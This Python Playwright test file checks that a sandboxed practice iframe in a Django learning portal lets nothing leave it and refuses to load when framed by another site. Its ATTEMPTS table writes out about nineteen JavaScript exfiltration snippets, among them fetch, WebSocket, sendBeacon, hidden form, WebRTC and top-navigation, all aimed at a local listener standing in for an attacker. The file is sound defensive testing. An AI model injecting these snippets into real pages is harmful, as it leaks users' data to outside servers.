"""The practice frame in a real browser: nothing leaves it, by any way we know; and what one does in it works."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from django.core.signals import request_started
from playwright.sync_api import Browser, BrowserContext, Frame, Page, expect

from learning.actions import practice as acts
from learning.models import PracticeScenario
from learning.scenarios import vectors
from tests.browser.listening import Listener, listening
from tests.factories import MunicipalityFactory
from tests.learning.practice import scenario

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

# What somebody who had got a script into the frame would do. Each gets the address of the listening server; what it
# returns is only for the eye: what counts is what the server hears.
ATTEMPTS = {
    "fetch": "(url) => fetch(`${url}/fetch?leak`, { mode: 'no-cors' })",
    "xhr": """(url) => new Promise((over) => {
      const request = new XMLHttpRequest();
      request.onloadend = over;
      request.open("GET", `${url}/xhr?leak`);
      request.send();
    })""",
    "websocket": """(url) => new Promise((over) => {
      const line = new WebSocket(`${url.replace("http", "ws")}/websocket?leak`);
      line.onerror = line.onclose = line.onopen = () => over();
    })""",
    "eventsource": """(url) => new Promise((over) => {
      const news = new EventSource(`${url}/eventsource?leak`);
      news.onerror = () => { news.close(); over(); };
    })""",
    "beacon": "(url) => navigator.sendBeacon(`${url}/beacon?leak`, 'typed')",
    "image": """(url) => new Promise((over) => {
      const image = new Image();
      image.onload = image.onerror = () => over();
      image.src = `${url}/image?leak`;
    })""",
    "stylesheet": """(url) => new Promise((over) => {
      const link = Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${url}/stylesheet?leak` });
      link.onload = link.onerror = () => over();
      document.head.append(link);
    })""",
    "worker": """(url) => {
      const code = `fetch("${url}/worker?leak", { mode: "no-cors" })`;
      new Worker(URL.createObjectURL(new Blob([code])));
    }""",
    "prefetch": """(url) => document.head.append(Object.assign(
      document.createElement("link"), { rel: "prefetch", href: `${url}/prefetch?leak` }))""",
    "preconnect": """(url) => document.head.append(Object.assign(
      document.createElement("link"), { rel: "preconnect", href: url }))""",
    "iframe": """(url) => new Promise((over) => {
      const frame = Object.assign(document.createElement("iframe"), { src: `${url}/iframe?leak` });
      frame.onload = () => over();
      document.body.append(frame);
    })""",
    "form": """(url) => {
      const form = Object.assign(document.createElement("form"), { action: `${url}/form`, method: "get" });
      form.append(Object.assign(document.createElement("input"), { name: "leak", value: "typed" }));
      document.body.append(form);
      form.submit();
    }""",
    "popup": "(url) => { window.open(`${url}/popup?leak`); }",
    "top": "(url) => { window.top.location = `${url}/top?leak`; }",
    "storage": "() => { localStorage.setItem('leak', 'typed'); return localStorage.getItem('leak'); }",
    "cookie": "() => { document.cookie = 'leak=typed'; return document.cookie; }",
    "itself": "(url) => { window.location = `${url}/itself?leak`; }",
    "query": "() => { window.location = `${window.location.pathname}?leak`; }",
    "webrtc": """async (url) => {
      const call = new RTCPeerConnection({ iceServers: [{ urls: url.replace("http://", "stun:") }] });
      call.createDataChannel("leak");
      await call.setLocalDescription(await call.createOffer());
    }""",
}
KEPT_ON_THE_DEVICE = {"storage", "cookie"}
LEADING = ("form", "popup", "top", "itself", "query")
"""Ways that would lead something elsewhere: each gets a page of its own."""


def attempting(key: str, *, leading: bool = False) -> str:
    """Makes an attempt and says what became of it; a refusal of the browser is no fault of the test. One that leads
    the page away is only begun: nobody would be there to answer."""
    tried = f"(async () => ({ATTEMPTS[key]})(url))()"
    if leading:
        return f"(url) => {{ {tried}.catch(() => null); }}"
    return f"(url) => {tried}.then((got) => `ran: ${{got}}`, (fault) => `threw: ${{fault}}`)"


@pytest.fixture
def listener() -> Iterator[Listener]:
    with listening() as listener:
        yield listener


@pytest.fixture
def other() -> Iterator[Listener]:
    with listening() as listener:
        yield listener


@pytest.fixture
def row() -> PracticeScenario:
    town = MunicipalityFactory(slug="oeveby", languages=("en", "da"))
    return acts.publish(None, acts.take_in(None, town, scenario()))


@pytest.fixture
def asked() -> Iterator[list[str]]:
    """Every address that our own server is asked for, with its query."""
    seen: list[str] = []

    def note(environ: dict[str, Any], **_rest: Any) -> None:
        seen.append(f"{environ['PATH_INFO']}?{environ.get('QUERY_STRING', '')}")

    request_started.connect(note)
    yield seen
    request_started.disconnect(note)


@pytest.fixture
def unwatched(browser: Browser) -> Iterator[BrowserContext]:
    """A browser that may go anywhere and complain: here the policy is meant to stop things, and says so."""
    context = browser.new_context(locale="en-GB")
    yield context
    context.close()


def open_frame(page: Page, address: str) -> Frame:
    page.goto(address, wait_until="load")
    element = page.wait_for_selector("iframe[sandbox]")
    element.scroll_into_view_if_needed()
    frame = element.content_frame()
    assert frame is not None
    frame.wait_for_selector("h1")
    return frame


def settle(context: BrowserContext, other: Listener, word: str) -> None:
    """What the browser was going to send has been sent: what it is asked for afterwards has arrived elsewhere."""
    for turn in range(2):
        page = context.new_page()
        page.goto(f"{other.url}/settled-{word}-{turn}")
        page.close()
        assert other.wait_for(f"/settled-{word}-{turn}")


def test_every_way_out_that_is_told_of_is_tried() -> None:
    assert set(ATTEMPTS) == {vector.key for vector in (*vectors.VECTORS, *vectors.MORE)}
    assert len(vectors.VECTORS) == 16


def test_on_an_ordinary_page_every_one_of_them_gets_out(
    unwatched: BrowserContext, listener: Listener, other: Listener
) -> None:
    """Otherwise the test below would say nothing: it could be that nobody listens."""
    home = f"{other.url}/ordinary"
    for key in ATTEMPTS:
        if key == "query":  # goes to the portal itself, which is asked in the test below
            continue
        page = unwatched.new_page()
        page.goto(home)
        heard = len(listener.heard)
        became = page.evaluate(attempting(key, leading=key in LEADING), listener.url)
        if key in KEPT_ON_THE_DEVICE:
            assert "typed" in became
        else:
            awaited = {"webrtc": "datagram", "preconnect": "connection"}.get(key, f"/{key}?leak")
            # the page stays open: a browser that is asked to close one on its way elsewhere may never answer
            assert listener.wait_for(awaited), (key, listener.heard[heard:])


def test_nothing_leaves_the_practice_frame_by_any_way_we_know(
    unwatched: BrowserContext, at, row, listener: Listener, other: Listener, asked: list[str]
) -> None:
    address = at(row.municipality, f"/en/learn/practice/{row.key}/")
    together = [key for key in ATTEMPTS if key not in {*LEADING, "iframe"}]
    for keys in (together, *([key] for key in ("iframe", *LEADING))):
        page = unwatched.new_page()
        frame = open_frame(page, address)
        known, heard = len(asked), len(listener.heard)
        became = {}
        for key in keys:
            leading = key in LEADING
            became[key] = frame.evaluate(attempting(key, leading=leading), listener.url)
        settle(unwatched, other, keys[0])
        # before it asks the rule, the browser opens a line to where a frame is to be led, and says nothing on it
        greeted = ["connection"] if keys[0] in {"iframe", "itself"} else []
        assert listener.heard[heard:] in ([], greeted), became
        # nor is our own server told anything
        assert not [one for one in asked[known:] if "leak" in one or "/frame/" in one], keys
        # the page is where it was, and no window has opened
        assert page.url == address, keys
        assert len(unwatched.pages) == 1, keys
        # the frame may be led into nothing, and else goes on
        if not {"itself", "query"} & {*keys}:
            assert frame.evaluate("() => document.querySelector('h1').textContent")
        for key in KEPT_ON_THE_DEVICE & {*keys}:
            assert became[key].startswith("threw: "), became
        page.close()
    assert [one for one in listener.heard if one != "connection"] == []
    assert unwatched.cookies() == []


@pytest.mark.parametrize("way", ["address", "own frame"])
def test_opened_otherwise_than_in_its_page_it_refuses_to_run(
    unwatched: BrowserContext, at, row, way: str
) -> None:
    frame = at(row.municipality, f"/en/learn/practice/{row.key}/frame/")
    page = unwatched.new_page()
    if way == "address":
        answer = page.goto(frame)
        assert answer is not None
        assert answer.status == 403
        expect(page.get_by_role("heading", level=1)).to_have_text("This opens only inside its page")
        assert page.locator("#practice").count() == 0
        page.get_by_role("link", name="To the page with the practice box").click()
        expect(page.locator("iframe[sandbox]")).to_be_visible()
    else:
        # a stranger's page that frames it gets nothing to see
        page.route(
            "http://stranger.localhost/",
            lambda route: route.fulfill(
                content_type="text/html", body=f'<iframe src="{frame}"></iframe>'
            ),
        )
        page.goto("http://stranger.localhost/")
        inner = page.query_selector("iframe").content_frame()
        assert inner.url.startswith("chrome-error://")
